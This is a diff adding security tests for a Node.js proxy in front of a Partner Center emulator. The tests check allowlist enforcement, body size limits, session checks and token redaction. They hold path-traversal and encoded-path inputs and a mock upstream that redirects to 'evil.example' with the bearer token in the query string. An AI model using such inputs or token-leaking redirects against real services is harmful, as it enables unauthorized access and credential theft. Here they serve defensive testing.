@@ -1,6 +1,7 @@
 // The reference backend proxy between the client and the emulator:
 // client → proxy → emulator, over loopback.
 import { test, before, after } from 'node:test';
+import { createServer, request as httpRequest } from 'node:http';
 import assert from 'node:assert/strict';
 import { createClient } from 'mca-attest';
 import { startEmulator, fixture } from 'mca-attest/emulator';
@@ -123,4 +124,102 @@ test('an unreachable upstream answers 502, a token source failure 502 without fo
     const b = await fetch(`${noToken.url}/v1/agreements?agreementType=*`);
     assert.deepEqual([b.status, (await b.json()).code], [502, 'proxy.tokenUnavailable']);
   } finally { await dead.close(); await noToken.close(); }
+});
+
+/** A raw HTTP request on its own connection (any method, any path as written, chunked bodies): { status, body, headers }. */
+function raw(url, { method = 'GET', path, headers = {}, chunks = [] }) {
+  return new Promise((done, reject) => {
+    const req = httpRequest(url, { method, path, agent: false, headers: { cookie: SESSION, ...headers } }, (res) => {
+      let body = '';
+      res.on('data', (d) => { body += d; });
+      res.on('end', () => done({ status: res.statusCode, body, headers: res.headers }));
+    });
+    req.on('error', reject);
+    for (const c of chunks) req.write(c);
+    req.end();
+  });
+}
+
+test('methods outside the allowlist and path tricks are refused (404 proxy.notAllowed), nothing forwarded', async () => {
+  const origin = new URL(proxy.url).origin;
+  const before = em.stats().requests;
+  const id = CONFIRMED;
+  const cases = [];
+  for (const method of ['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD']) {
+    cases.push([method, `/pc/v1/customers/${id}/agreements`], [method, '/pc/v1/attestations/enhanced']);
+  }
+  cases.push(['POST', '/pc/v1/agreements'], ['POST', `/pc/v1/customers/${id}/directSignedMicrosoftCustomerAgreementStatus`],
+    ['GET', '/pc/v1/agreements/'], ['GET', '/pc//v1/agreements'], ['GET', '/PC/v1/agreements'], ['GET', '/pc/v1/%61greements'],
+    ['GET', `/pc/v1/customers/${id}/agreements/..`], ['GET', `/pc/v1/customers/${id}%2Fagreements`],
+    ['GET', `/pc/v1/customers/${id}/agreements/../../users`], ['GET', `/pc/v1/customers/${id}.evil/agreements`],
+    ['GET', '/pc/v1/customers/*/agreements'], ['GET', '/pc/v2/agreements'], ['GET', '/pc'], ['GET', '/pc/v1/agreementtemplates/x/document']);
+  for (const [method, path] of cases) {
+    const r = await raw(origin, { method, path });
+    assert.equal(r.status, 404, `${method} ${path}`);
+    if (method !== 'HEAD') assert.equal(JSON.parse(r.body).code, 'proxy.notAllowed', `${method} ${path}`);
+  }
+  assert.equal(em.stats().requests, before, 'nothing reached Partner Center');
+});
+
+test('bodies: a chunked body over the limit (no Content-Length) is 413, one at the limit is forwarded', async () => {
+  const origin = new URL(proxy.url).origin;
+  const before = em.stats().requests;
+  const over = await raw(origin, { method: 'POST', path: '/pc/v1/attestations/enhanced',
+    headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' }, chunks: ['{"companyName":"', 'x'.repeat(4096), '"}'] });
+  assert.deepEqual([over.status, JSON.parse(over.body).code], [413, 'proxy.tooLarge']);
+  const lying = await raw(origin, { method: 'POST', path: '/pc/v1/attestations/enhanced',
+    headers: { 'content-type': 'application/json', 'content-length': '99999' }, chunks: ['{}'] }).catch((e) => ({ status: 0, error: e }));
+  assert.ok([413, 0].includes(lying.status), 'a declared length over the limit is refused unread');
+  assert.equal(em.stats().requests, before, 'neither was forwarded');
+  const body = JSON.stringify({ companyName: 'x'.repeat(4096 - 18) });
+  assert.equal(Buffer.byteLength(body), 4096);
+  const at = await raw(origin, { method: 'POST', path: '/pc/v1/attestations/enhanced', headers: { 'content-type': 'application/json' }, chunks: [body] });
+  assert.notEqual(at.status, 413);
+  assert.equal(em.stats().requests, before + 1, 'the body at the limit was forwarded');
+});
+
+test('no session on any allowlisted call, a failing or async-false session check: 401, nothing forwarded', async () => {
+  const before = em.stats().requests;
+  const id = CONFIRMED;
+  const calls = [['GET', '/pc/v1/agreements?agreementType=MicrosoftCustomerAgreement'],
+    ['GET', `/pc/v1/agreementtemplates/117a77b0-9360-443b-8795-c6dedc750cf9/document`],
+    ['GET', `/pc/v1/customers/${id}/agreements`], ['POST', `/pc/v1/customers/${id}/agreements`],
+    ['GET', `/pc/v1/customers/${id}/directSignedMicrosoftCustomerAgreementStatus`], ['POST', '/pc/v1/attestations/enhanced'],
+    ['GET', `/pc/v1/attestations/enhanced/${id}`]];
+  const origin = new URL(proxy.url).origin;
+  for (const [method, path] of calls) {
+    const r = await raw(origin, { method, path, headers: { cookie: 'session=forged', 'content-type': 'application/json' }, chunks: method === 'POST' ? ['{}'] : [] });
+    assert.deepEqual([r.status, JSON.parse(r.body).code], [401, 'proxy.noSession'], `${method} ${path}`);
+  }
+  for (const checkSession of [() => { throw new Error('session store down'); }, async () => false, () => 'yes']) {
+    const p = await startProxy({ port: 0, upstream: em.url, getToken: () => em.issueToken(), checkSession });
+    try {
+      const r = await fetch(`${p.url}/v1/agreements?agreementType=*`);
+      assert.equal(r.status, checkSession.toString().includes("'yes'") ? 200 : 401);
+    } finally { await p.close(); }
+  }
+  assert.equal(em.stats().requests, before + 1, 'only the request with a (truthy) session went through');
+});
+
+test('an upstream that reflects the token (body, id headers, redirect) never gets it to the browser', async () => {
+  const TOKEN = 'proxy-secret-token-9f8e7d';
+  const reflector = createServer((req, res) => {
+    const auth = req.headers.authorization ?? '';
+    if (req.url.includes('directSigned')) { res.writeHead(302, { location: `http://evil.example/?t=${auth}` }); res.end(); return; }
+    res.writeHead(req.url.includes('attestations') ? 401 : 400, { 'content-type': 'application/json', 'ms-correlationid': auth,
+      'ms-requestid': TOKEN, 'retry-after': auth });
+    res.end(JSON.stringify({ code: 600003, description: `bad request; you sent ${auth}`, echo: req.headers }));
+  });
+  await new Promise((r) => reflector.listen(0, '127.0.0.1', r));
+  const p = await startProxy({ port: 0, upstream: `http://127.0.0.1:${reflector.address().port}`, getToken: async () => TOKEN,
+    checkSession: () => true });
+  try {
+    for (const path of ['/v1/agreements?agreementType=*', `/v1/customers/${CONFIRMED}/directSignedMicrosoftCustomerAgreementStatus`,
+      `/v1/attestations/enhanced/${CONFIRMED}`]) {
+      const r = await fetch(`${p.url}${path}`);
+      const all = `${r.status} ${JSON.stringify([...r.headers])} ${await r.text()}`;
+      assert.ok(!all.includes(TOKEN), `${path}: the token is not in the answer: ${all.slice(0, 200)}`);
+      if (path.includes('agreements?')) assert.match(all, /you sent Bearer \[redacted\]/, 'the rest of the answer is passed on');
+    }
+  } finally { await p.close(); await new Promise((r) => { reflector.close(r); reflector.closeAllConnections(); }); }
 });
